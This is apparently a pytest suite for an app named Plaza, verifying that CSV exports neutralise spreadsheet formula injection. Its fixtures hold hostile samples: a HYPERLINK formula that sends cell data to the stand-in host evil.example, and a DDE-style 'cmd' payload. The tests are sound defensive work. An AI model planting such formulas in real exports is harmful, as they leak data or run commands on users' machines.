"""No CSV file Plaza writes lets a cell run as a spreadsheet formula (CSV injection)."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest

from app.core.csv import csv_text, safe_cell
from app.extensions import db
from app.models import PairwiseVote, QVAllocation, QVBallot, Voter
from app.models.facilitation import FacilitatedSession, SessionIdea, SessionParticipant
from app.sessions.pins import hash_pin

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ANSWERS = ["-2+3+cmd|' /C calc'!A0", "+1", "@SUM(1,1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", [FORMULA_TITLE, *ANSWERS])
def test_safe_cell_turns_formulas_into_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Shade trees", "", "19.43", 3, -3, -99.13, None])
def test_safe_cell_keeps_everything_else(value):
    assert safe_cell(value) == value


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_no_formula(text: str) -> None:
    risky = [c for c in cells(text) if c.startswith(("=", "+", "-", "@", "\t", "\r"))
             and not _is_number(c)]
    assert risky == [], risky
    assert "'" + FORMULA_TITLE in cells(text)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_text_escapes_every_cell():
    assert cells(csv_text(["a", "b"], [[FORMULA_TITLE, -1]])) == ["a", "b", "'" + FORMULA_TITLE, "-1"]


@pytest.fixture
def hostile_space(make_space, make_idea, make_user):
    """A space whose idea titles and staff answers are formulas, with votes and a ballot."""
    space = make_space(slug="zocalo")
    evil = make_idea(space, title=FORMULA_TITLE, status="adopted", staff_response=ANSWERS[0])
    other = make_idea(space, title="@cmd Benches")
    voter = Voter(anon_key="browser")
    db.session.add(voter)
    db.session.flush()
    db.session.add(PairwiseVote(space_id=space.id, voter_id=voter.id, left_idea_id=evil.id,
                                right_idea_id=other.id, choice="left", pair_key="k1"))
    ballot = QVBallot(space_id=space.id, voter_id=voter.id, budget=100, credits_used=4)
    ballot.allocations = [QVAllocation(idea_id=evil.id, votes=-2)]
    db.session.add(ballot)
    db.session.commit()
    return space, evil, other, voter


@pytest.mark.parametrize("kind", ["ideas", "pairwise-votes", "qv-ballots"])
def test_staff_exports_are_escaped(client, make_user, login, hostile_space, kind):
    login(make_user(role="staff"))
    response = client.get(f"/staff/spaces/zocalo/export/{kind}.csv")
    assert response.status_code == 200
    assert_no_formula(response.get_data(as_text=True))


@pytest.mark.parametrize("kind", ["ideas", "pairwise-votes", "qv-ballots"])
def test_export_command_is_escaped(runner, hostile_space, tmp_path, kind):
    out = tmp_path / "export.csv"
    result = runner.invoke(args=["export", kind, "--space", "zocalo", "--output", str(out)])
    assert result.exit_code == 0, result.output
    assert_no_formula(out.read_text(encoding="utf-8"))


@pytest.mark.parametrize("kind", ["ideas", "votes", "ballots"])
def test_session_exports_are_escaped(client, make_user, login, hostile_space, kind):
    space, evil, other, voter = hostile_space
    facilitator = make_user(role="facilitator")
    now = datetime.now(timezone.utc)
    session = FacilitatedSession(
        space_id=space.id, facilitator_id=facilitator.id, name="Taller", place="", mode="both",
        starts_at=now - timedelta(hours=1), ends_at=now + timedelta(hours=1), timezone="UTC",
        collect_ideas=True, idle_seconds=120, join_code="K7PQ2M", pin_hash=hash_pin("4826", iterations=1000))
    db.session.add(session)
    db.session.flush()
    participant = SessionParticipant(session_id=session.id, voter_id=voter.id, via="kiosk", started_at=now)
    db.session.add(participant)
    db.session.flush()
    db.session.add(SessionIdea(session_id=session.id, participant_id=participant.id, idea_id=evil.id,
                               client_key="idea-key-0001"))
    db.session.commit()
    login(facilitator)
    response = client.get(f"/sessions/{session.id}/export/{kind}.csv")
    assert response.status_code == 200
    assert_no_formula(response.get_data(as_text=True))
